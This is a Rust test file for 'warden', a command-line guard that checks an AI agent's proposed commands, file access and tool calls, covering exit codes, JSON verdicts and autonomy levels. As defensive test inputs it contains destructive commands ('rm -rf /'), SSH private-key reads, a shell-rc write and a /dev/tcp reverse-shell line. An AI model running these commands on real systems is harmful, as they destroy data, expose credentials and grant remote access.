//! `warden check` from flags: exit codes, `--json`, `--no-human`, usage errors.

use crate::support::{Env, assert_verdict, check_json, decision, reason, rules};

#[test]
fn allow_exits_0() {
    let env = Env::new();
    let out = env.run(&["check", "--bash", "git status"]);
    out.code(0);
    assert!(out.stdout.starts_with("ALLOW "), "{}", out.stdout);
    assert!(
        out.stdout.contains("everyday-development"),
        "{}",
        out.stdout
    );
}

#[test]
fn deny_of_rm_rf_root_exits_2() {
    let env = Env::new();
    let out = env.run(&["check", "--bash", "rm -rf /"]);
    out.code(2);
    assert!(out.stdout.starts_with("DENY "), "{}", out.stdout);
    assert!(out.stdout.contains("threat:destructive"), "{}", out.stdout);
}

#[test]
fn deny_of_ssh_key_read_with_tilde_exits_2() {
    // `~` is passed literally (no shell expands it): warden expands it with $HOME.
    let env = Env::new();
    let out = env.run(&["check", "--read", "~/.ssh/id_rsa"]);
    out.code(2);
    let expanded = env.home.join(".ssh/id_rsa");
    assert!(
        out.stdout.contains(&expanded.display().to_string()),
        "the explanation names the resolved path under the test HOME:\n{}",
        out.stdout
    );
    assert!(out.stdout.contains("secrets-read"), "{}", out.stdout);
}

#[test]
fn deny_of_ssh_key_read_by_absolute_path_exits_2() {
    let env = Env::new();
    let key = env.home.join(".ssh/id_rsa");
    let v = check_json(&env, &["--read", key.to_str().unwrap()]);
    assert_verdict(&v, "deny", "secrets-read");
}

#[test]
fn ask_of_git_push_exits_3() {
    let env = Env::new();
    let out = env.run(&["check", "--bash", "git push origin main"]);
    out.code(3);
    assert!(out.stdout.starts_with("ASK "), "{}", out.stdout);
    assert!(out.stdout.contains("git-push"), "{}", out.stdout);
}

#[test]
fn unknown_flag_is_usage_error_exit_1_not_deny() {
    // clap's own usage-error code is 2, which a caller would read as "deny".
    let env = Env::new();
    let out = env.run(&["check", "--bash", "ls", "--frobnicate"]);
    out.code(1);
    assert!(out.stdout.is_empty(), "{}", out.stdout);
    assert!(out.stderr.contains("--frobnicate"), "{}", out.stderr);
}

#[test]
fn unknown_subcommand_is_usage_error_exit_1() {
    let env = Env::new();
    env.run(&["teleport"]).code(1);
}

#[test]
fn check_without_an_action_flag_is_usage_error_exit_1() {
    let env = Env::new();
    let out = env.run(&["check"]);
    out.code(1);
    assert!(out.stderr.contains("--bash"), "{}", out.stderr);
    let out = env.run(&["check", "--json", "--no-human"]);
    out.code(1);
}

#[test]
fn two_action_flags_are_a_usage_error_exit_1() {
    let env = Env::new();
    env.run(&["check", "--bash", "ls", "--read", "x"]).code(1);
}

#[test]
fn tool_without_slash_is_usage_error_exit_1() {
    let env = Env::new();
    let out = env.run(&["check", "--tool", "github"]);
    out.code(1);
    assert!(out.stdout.is_empty(), "{}", out.stdout);
    assert!(out.stderr.contains("SERVER/TOOL"), "{}", out.stderr);
    assert!(out.stderr.contains("github"), "{}", out.stderr);
}

#[test]
fn tool_args_not_json_is_usage_error_exit_1() {
    let env = Env::new();
    let out = env.run(&[
        "check",
        "--tool",
        "github/create_issue",
        "--args",
        "{title: x",
    ]);
    out.code(1);
    assert!(out.stdout.is_empty(), "{}", out.stdout);
    assert!(out.stderr.contains("--args"), "{}", out.stderr);
    assert!(out.stderr.contains("JSON"), "{}", out.stderr);
}

#[test]
fn unknown_autonomy_level_is_usage_error_exit_1() {
    let env = Env::new();
    let out = env.run(&["check", "--bash", "ls", "--autonomy", "9"]);
    out.code(1);
    assert!(out.stderr.contains("autonomy"), "{}", out.stderr);
}

#[test]
fn method_without_fetch_is_a_usage_error() {
    // Regression. Before the fix: `--method` is declared `requires = "fetch"`, but clap accepts any member
    // of the required "action" group as satisfying `requires` (clap-rs/clap#4707),
    // so `--method POST` is silently ignored next to `--bash`.
    let env = Env::new();
    let out = env.run(&["check", "--bash", "ls", "--method", "POST"]);
    out.code(1);
}

#[test]
fn args_without_tool_is_a_usage_error() {
    // Regression. Before the fix: same clap issue as above for `--args` (`requires = "tool"`): the JSON is
    // silently dropped when the action is `--fetch`.
    let env = Env::new();
    let out = env.run(&[
        "check",
        "--fetch",
        "https://example.com/",
        "--args",
        "{\"x\":1}",
    ]);
    out.code(1);
}

#[test]
fn help_exits_0_and_documents_exit_codes() {
    let env = Env::new();
    let out = env.run(&["--help"]);
    out.code(0);
    assert!(
        out.stdout
            .contains("Exit codes: 0 allow (or success), 1 error or bad usage, 2 deny, 3 ask."),
        "{}",
        out.stdout
    );
    let out = env.run(&["check", "--help"]);
    out.code(0);
    assert!(
        out.stdout
            .contains("Exit codes: 0 allow, 1 error or bad usage, 2 deny, 3 ask."),
        "{}",
        out.stdout
    );
    assert!(out.stdout.contains("--jsonl"), "{}", out.stdout);
}

#[test]
fn version_exits_0() {
    let env = Env::new();
    let out = env.run(&["--version"]);
    out.code(0);
    assert!(out.stdout.starts_with("warden "), "{}", out.stdout);
}

#[test]
fn json_prints_exactly_one_verdict_object() {
    let env = Env::new();
    for (args, want) in [
        (["--bash", "git status"], "allow"),
        (["--bash", "rm -rf /"], "deny"),
        (["--bash", "git push origin main"], "ask"),
    ] {
        let mut full = vec!["check"];
        full.extend_from_slice(&args);
        full.push("--json");
        let out = env.run(&full);
        let v = out.verdict();
        assert!(out.stderr.is_empty(), "stderr: {}", out.stderr);
        let obj = v.as_object().expect("verdict is an object");
        for key in ["decision", "rules", "reason", "threat"] {
            assert!(obj.contains_key(key), "missing {key}: {v}");
        }
        assert!(
            obj.keys().all(|k| [
                "decision",
                "rules",
                "reason",
                "threat",
                "would_block",
                "loosened",
                "answered",
                "audit"
            ]
            .contains(&k.as_str())),
            "unexpected key in {v}"
        );
        assert_eq!(decision(&v), want, "{v}");
        assert!(
            ["benign", "high", "critical"].contains(&v["threat"].as_str().unwrap()),
            "{v}"
        );
        assert!(!rules(&v).is_empty(), "{v}");
        assert!(!reason(&v).is_empty(), "{v}");
    }
}

#[test]
fn no_human_turns_ask_into_deny_and_says_why() {
    let env = Env::new();
    let v = check_json(&env, &["--bash", "git push origin main", "--no-human"]);
    assert_verdict(&v, "deny", "git-push");
    assert!(reason(&v).contains("no human"), "{v}");
}

#[test]
fn no_human_leaves_allow_and_deny_alone() {
    let env = Env::new();
    let v = check_json(&env, &["--bash", "git status", "--no-human"]);
    assert_eq!(decision(&v), "allow", "{v}");
    let v = check_json(&env, &["--bash", "rm -rf /", "--no-human"]);
    assert_verdict(&v, "deny", "threat:destructive");
    assert!(!reason(&v).contains("no human"), "{v}");
}

#[test]
fn autonomy_levels_decide_unmatched_actions() {
    let env = Env::new();
    let tool = [
        "--tool",
        "github/create_issue",
        "--args",
        "{\"title\":\"x\"}",
    ];
    let at = |level: &str| {
        let mut a = tool.to_vec();
        a.extend(["--autonomy", level]);
        check_json(&env, &a)
    };
    assert_verdict(&at("observer"), "deny", "default:autonomy");
    assert_verdict(&at("0"), "deny", "default:autonomy");
    assert_verdict(&at("assistant"), "ask", "default:autonomy");
    assert_verdict(&at("executor"), "ask", "default:autonomy");
    assert_verdict(&at("delegated"), "allow", "default:autonomy");
    assert_verdict(&at("4"), "allow", "default:autonomy");
}

#[test]
fn threat_classifier_denies_critical_at_every_autonomy() {
    let env = Env::new();
    for level in ["observer", "executor", "autonomous"] {
        let v = check_json(
            &env,
            &[
                "--bash",
                "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
                "--autonomy",
                level,
            ],
        );
        assert_verdict(&v, "deny", "threat:reverse-shell");
        assert_eq!(v["threat"], "critical", "{v}");
    }
}

#[test]
fn compound_command_is_judged_per_subcommand_strictest_wins() {
    let env = Env::new();
    let v = check_json(&env, &["--bash", "git status && git push origin main"]);
    assert_verdict(&v, "ask", "git-push");
    let v = check_json(&env, &["--bash", "ls; rm -rf /"]);
    assert_verdict(&v, "deny", "threat:destructive");
}

#[test]
fn shell_rc_write_is_denied() {
    let env = Env::new();
    let v = check_json(&env, &["--write", "~/.bashrc"]);
    assert_verdict(&v, "deny", "shell-rc-write");
}

#[test]
fn delete_outside_workspace_asks_inside_is_allowed() {
    let env = Env::new();
    let v = check_json(&env, &["--delete", "/opt/app/data.db"]);
    assert_verdict(&v, "ask", "delete-outside-workspace");
    let v = check_json(&env, &["--delete", "build/out.o"]);
    assert_eq!(decision(&v), "allow", "{v}");
}

#[test]
fn empty_command_is_denied_with_a_reason() {
    // An empty command line has no subjects; warden fails closed (deny), but the
    // verdict should still say why.
    // Regression. Before the fix: the verdict is {"decision":"deny","rules":[],"reason":""} — no rule id
    // and no reason, so neither the agent nor the audit log learns why.
    let env = Env::new();
    let v = check_json(&env, &["--bash", ""]);
    assert_eq!(decision(&v), "deny", "{v}");
    assert!(!rules(&v).is_empty(), "a deny names its rule: {v}");
    assert!(!reason(&v).is_empty(), "a deny gives a reason: {v}");
}

#[test]
fn agent_flag_selects_the_agents_autonomy() {
    let env = Env::new();
    let user = crate::support::write(
        &env.home.join("agents.toml"),
        "version = 1\n\n[agents.bot]\nautonomy = \"observer\"\n",
    );
    let user = user.to_str().unwrap();
    let v = check_json(
        &env,
        &["--policy", user, "--agent", "bot", "--write", "src/x.rs"],
    );
    assert_verdict(&v, "deny", "default:autonomy");
    let v = check_json(
        &env,
        &["--policy", user, "--agent", "other", "--write", "src/x.rs"],
    );
    assert_verdict(&v, "allow", "default:autonomy");
}
